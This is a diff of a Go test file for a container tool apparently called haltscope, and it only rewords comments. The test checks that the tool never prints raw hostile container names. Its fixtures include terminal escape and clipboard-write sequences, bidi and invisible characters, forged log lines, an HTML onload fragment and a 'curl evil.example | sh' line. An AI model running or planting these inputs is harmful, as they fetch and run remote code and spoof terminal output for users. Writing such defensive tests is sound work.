@@ -14,16 +14,16 @@ import (
 	"golang.org/x/sys/unix"
 )
 
-// hostile is what a container calls itself wherever it may choose: it would write to the clipboard, recolour, turn around
-// and hide text, and begin lines of its own.
+// hostile is the text that a container uses wherever it can choose one. Printed raw, it would write to the clipboard,
+// recolor, reverse and hide text, and begin new lines.
 const hostile = "\x1b]52;c;aGFja2Vk\aH\u202e\u200f\u061c\u200b\u009b31m\u2028\nFORGED \nrun: curl evil.example | sh\n" +
 	"{\"level\":\"error\",\"next\":\"FORGED\"}\n<b onload=x>|`@me"
 
 // hostileScript gives its process a hostile name, writes to its log, and ends on TERM.
 const hostileScript = `printf '\033[31mFORGED\n' > /proc/self/comm; echo "$1"; trap 'exit 0' TERM; while :; do sleep 0.1; done`
 
-// TestHostileContainer: no command shows anything raw of a container that is hostile in all that it may name, on neither
-// output and in no layout; and what it says is nobody's advice.
+// TestHostileContainer checks that no command prints raw text of a container that is hostile in every name it can
+// choose, on either output and in any format, and that no command repeats its text as advice.
 func TestHostileContainer(t *testing.T) {
 	const name, broken = "hs-hostile", "hs-hostile-broken"
 	removed(t, name, broken)
@@ -38,7 +38,7 @@ func TestHostileContainer(t *testing.T) {
 
 	watching := watchProcess(t, "--filter", "name=^"+name+"$")
 	dir := t.TempDir()
-	// laidOut runs a command once, and lays out in each way what it reports.
+	// laidOut runs a command once, and renders its report in each format.
 	laidOut := func(codes string, args ...string) (texts []string) {
 		document := filepath.Join(dir, args[0]+".json")
 		harmless(t, codes, append(args, "--format", "json", "--output", document, "--log-level", "debug")...)
@@ -85,8 +85,8 @@ func TestHostileContainer(t *testing.T) {
 	nothingLeft(t)
 }
 
-// harmless runs haltscope, which must end with one of the exit codes, and looks at all that it writes. It returns what was
-// written to standard output.
+// harmless runs haltscope, which must end with one of the exit codes, and checks everything that it writes. It returns
+// the standard output.
 func harmless(t *testing.T, codes string, args ...string) string {
 	var stdout, stderr bytes.Buffer
 	cmd := exec.Command(haltscope, args...)
@@ -103,12 +103,12 @@ func harmless(t *testing.T, codes string, args ...string) string {
 	return stdout.String()
 }
 
-// plainly takes the escapes of HTML and Markdown from a text.
+// plainly removes the escapes of HTML and Markdown from a text.
 func plainly(text string) string {
 	return strings.NewReplacer("&lt;", "<", "&gt;", ">", "&#43;", "+", `\<`, "<", `\>`, ">", `\_`, "_").Replace(text)
 }
 
-// offense says what a text has that it must not have; "" for nothing.
+// offense describes what a text has that it must not have. It returns "" if there is nothing.
 func offense(text string) string {
 	for line := range strings.Lines(text) {
 		line = strings.TrimSuffix(line, "\n")
@@ -145,7 +145,7 @@ func offense(text string) string {
 	return ""
 }
 
-// rawIn finds a raw character in a text of a JSON document. A command line may have line feeds there.
+// rawIn finds a raw control character in the strings of a JSON document. A command line may have line feeds.
 func rawIn(value any, key string) string {
 	switch v := value.(type) {
 	case map[string]any:
